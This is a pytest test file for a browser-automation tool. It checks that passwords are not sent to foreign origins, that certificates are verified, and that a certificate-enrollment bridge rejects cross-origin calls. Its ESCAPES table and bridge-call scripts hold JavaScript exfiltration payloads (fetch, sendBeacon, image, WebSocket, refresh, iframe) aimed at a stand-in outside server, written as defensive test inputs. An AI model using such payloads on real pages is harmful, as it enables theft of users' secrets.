"""Nothing leaves the site, nothing is typed before its certificate was checked: in a real browser, with two servers."""

from __future__ import annotations

import ssl
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import pytest

from ekakushin.fixtures.mock_site import Authority
from ekakushin.flows.browser.driving import Browsing
from ekakushin.flows.browser.finding import BrowserProgram
from ekakushin.flows.browser.reading import Reading
from ekakushin.flows.browser.tab import Tab
from ekakushin.flows.certenroll import Bridge
from ekakushin.flows.errors import FlowError, ForeignAddress, NeedsPerson, Unavailable, UnexpectedPage
from ekakushin.flows.secret import Secret
from ekakushin.flows.site import Limits, Site
from tests.support.fakes_certenroll import MemoryStore
from tests.support.interception import listening
from tests.support.strangers import Stranger, led_to, stranger

WORD = "TopSecret1"
FORM = (
    '<form method="post" action="/send"{target}>パスワード <input type="password" name="p">'
    '<input type="submit" value="送信"></form>'
)


@dataclass
class World:
    """A site of two origins with a certificate that is trusted, and somebody else's server."""

    issuance: Stranger
    service: Stranger
    elsewhere: Stranger
    site: Site
    browsing: Browsing


@pytest.fixture
async def world(
    tmp_path: Path, mock_authority: Authority, browser_program: BrowserProgram
) -> AsyncIterator[World]:
    unknown = Authority.make()
    ca = tmp_path / "ca.pem"
    ca.write_bytes(mock_authority.root_pem)
    async with (
        stranger(mock_authority) as issuance,
        stranger(mock_authority) as service,
        stranger(unknown) as elsewhere,
    ):
        limits = Limits(page=8.0)
        site = Site(issuance=issuance.origin, service=service.origin, ca=ca, limits=limits)
        async with Browsing.start(browser_program, site=site) as browsing:
            yield World(issuance, service, elsewhere, site, browsing)


async def opened(tab: Tab, server: Stranger) -> Reading:
    return await tab.open(Secret(f"{server.origin}/"))


async def sent(tab: Tab, world: World) -> None:
    """Type the password and send it."""
    reading = await opened(tab, world.service)
    (field,) = [each for each in reading.controls if each.kind == "field"]
    (button,) = [each for each in reading.controls if each.kind == "button"]
    await tab.fill_secret(field, Secret(WORD), owner=world.service.origin)
    await tab.press(button)


async def forever(tab: Tab) -> None:
    await tab.until(lambda _: None, seconds=5.0)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_form_that_is_answered_with_elsewhere_sends_nothing_there(world: World, status: int) -> None:
    world.service.pages |= {
        "/": FORM.format(target=""),
        "/send": led_to(f"{world.elsewhere.origin}/x", status),
    }

    async with world.browsing.tab() as tab:
        await sent(tab, world)
        with pytest.raises(ForeignAddress) as raised:
            await forever(tab)

    assert raised.value.code == "NET-009"
    assert raised.value.values["origin"] == world.elsewhere.origin
    assert world.elsewhere.asked == []


@pytest.mark.parametrize("target", [' target="_blank"', ' target="inner"'])
async def test_neither_a_new_window_nor_a_frame_goes_there(world: World, target: str) -> None:
    inner = '<iframe name="inner"></iframe>'
    answer = led_to(f"{world.elsewhere.origin}/x", 307)
    world.service.pages |= {"/": FORM.format(target=target) + inner, "/send": answer}

    async with world.browsing.tab() as tab:
        await sent(tab, world)
        with pytest.raises((FlowError, ForeignAddress)):
            await tab.until(lambda _: None, seconds=2.0)

    assert ("POST", "/send", f"p={WORD}") in world.service.asked
    assert world.elsewhere.asked == []


ESCAPES = {
    "script": "fetch('{away}', {{method: 'POST', body: 'x', mode: 'no-cors'}})",
    "redirected script": "fetch('/send', {{method: 'POST', body: 'x'}})",
    "beacon": "navigator.sendBeacon('/send', 'x')",
    "picture": "new Image().src = '{away}?x'",
    "socket": "new WebSocket('{away}'.replace('https', 'wss'))",
    "window": "window.open('{away}')",
    "refresh": "document.write('<meta http-equiv=refresh content=\"0;url={away}\">')",
    "frame": "document.write('<iframe src=\"{away}\"></iframe>')",
    "event source": "new EventSource('{away}')",
    "prefetch": 'document.write(\'<link rel=prefetch href="{away}"><link rel=preconnect href="{away}">\')',
}


@pytest.mark.parametrize("way", ESCAPES)
async def test_a_page_s_script_reaches_nobody_else(world: World, way: str) -> None:
    away = f"{world.elsewhere.origin}/x"
    script = ESCAPES[way].format(away=away)
    world.service.pages |= {"/": f"<p>ログイン</p><script>{script}</script>", "/send": led_to(away, 307)}

    async with world.browsing.tab() as tab:
        with suppress(FlowError, ForeignAddress):
            await opened(tab, world.service)
            await tab.until(lambda _: None, seconds=1.5)

    assert world.elsewhere.asked == []


@pytest.mark.parametrize("wrong", ["issuance", "service"])
async def test_a_wrong_certificate_on_either_origin_stops_before_anything_is_shown(
    world: World, browser_program: BrowserProgram, wrong: str
) -> None:
    site = world.site.model_copy(update={wrong: world.elsewhere.origin})
    world.elsewhere.pages["/"] = FORM.format(target="")

    async with Browsing.start(browser_program, site=site) as browsing, browsing.tab() as tab:
        with pytest.raises(Unavailable) as raised:
            await opened(tab, world.elsewhere)

    assert raised.value.code == "NET-002"
    assert world.elsewhere.asked == []


async def test_a_real_site_without_a_ca_of_its_own_is_checked_by_the_browser(
    world: World, browser_program: BrowserProgram
) -> None:
    site = world.site.model_copy(update={"ca": None})
    world.issuance.pages["/"] = FORM.format(target="")

    async with Browsing.start(browser_program, site=site) as browsing, browsing.tab() as tab:
        with pytest.raises(Unavailable) as raised:
            await opened(tab, world.issuance)

    assert (raised.value.code, world.issuance.asked) == ("NET-002", [])


async def test_a_site_whose_tls_the_browser_does_not_speak_is_told_as_that(
    world: World, browser_program: BrowserProgram, mock_authority: Authority
) -> None:
    old = mock_authority.server_context(ask_for_certificate=False)
    old.maximum_version = ssl.TLSVersion.TLSv1_2
    old.set_ciphers("AES256-SHA256")  # which no browser offers any more

    with listening(old) as server:
        site = world.site.model_copy(update={"ca": None, "issuance": server.origin})
        async with Browsing.start(browser_program, site=site) as browsing, browsing.tab() as tab:
            with pytest.raises(NeedsPerson) as raised:
                await tab.open(Secret(f"{server.origin}/"))

    assert raised.value.code == "NET-010"


async def test_a_secret_of_one_origin_is_not_typed_into_the_other(world: World) -> None:
    world.service.pages["/"] = f'<p>ログイン</p><iframe src="{world.issuance.origin}/"></iframe>'
    world.issuance.pages["/"] = FORM.format(target="")

    async with world.browsing.tab() as tab:
        await opened(tab, world.service)
        (field,) = await tab.until(_fields, seconds=5.0)
        with pytest.raises(UnexpectedPage) as raised:
            await tab.fill_secret(field, Secret(WORD), owner=world.service.origin)
        assert WORD not in str(raised.value)
        await tab.fill_secret(field, Secret(WORD), owner=world.issuance.origin)


def _fields(reading: Reading) -> list[object] | None:
    return [each for each in reading.controls if each.kind == "field"] or None


OBJECTS = (
    "<p id=s></p><script>document.getElementById('s').textContent = 'has ' + typeof ActiveXObject</script>"
)


@pytest.mark.parametrize("way", ["opened", "redirected", "framed"])
async def test_the_bridge_is_on_the_issuance_origin_alone(world: World, way: str) -> None:
    bridge = Bridge(user_id="10006", store=MemoryStore(), origin=world.issuance.origin)
    world.service.pages["/"] = OBJECTS
    first = {"opened": world.service, "redirected": world.issuance, "framed": world.issuance}[way]
    if way == "redirected":
        world.issuance.pages["/"] = led_to(f"{world.service.origin}/", 302)
    if way == "framed":
        world.issuance.pages["/"] = f'<p>発行</p><iframe src="{world.service.origin}/"></iframe>'

    async with world.browsing.tab(prepare=bridge.install) as tab:
        await opened(tab, first)
        said = await tab.until(
            lambda now: next((x for x in now.lines if x.startswith("has")), None), seconds=5.0
        )

    assert said == "has undefined"


CALL = """<body><script>
fetch(%(address)r, {method: "POST", headers: {"x-enrollment-key": %(key)r},
  body: '{"call": "create_key", "method": "x", "arguments": {"container": "c"}}'})
  .then(() => "answered", () => "refused").then((how) => document.body.append("it " + how));
</script></body>"""
SYNCHRONOUS = """<body><script>
const call = new XMLHttpRequest();
call.open("POST", %(address)r, false);
call.setRequestHeader("x-enrollment-key", %(key)r);
try { call.send('{"call": "create_key", "method": "x", "arguments": {"container": "c"}}'); } catch (e) {}
document.body.append("it " + call.status);
</script></body>"""


@pytest.mark.parametrize("script", [CALL, SYNCHRONOUS])
@pytest.mark.parametrize("page", ["issuance", "service"])
async def test_whoever_knows_address_and_key_of_the_bridge_gets_no_answer_from_another_origin(
    world: World, page: str, script: str
) -> None:
    store = MemoryStore()
    bridge = Bridge(user_id="10006", store=store, origin=world.issuance.origin)
    server: Stranger = getattr(world, page)
    server.pages["/"] = script % {"address": bridge._address, "key": bridge._key}

    async with world.browsing.tab(prepare=bridge.install) as tab:
        await opened(tab, server)
        await tab.until(lambda now: now.says("it ") or None, seconds=5.0)

    ours = (page, script) == ("issuance", SYNCHRONOUS)  # the page's objects ask in this way alone
    assert len(store.pending_keys("10006")) == int(ours)
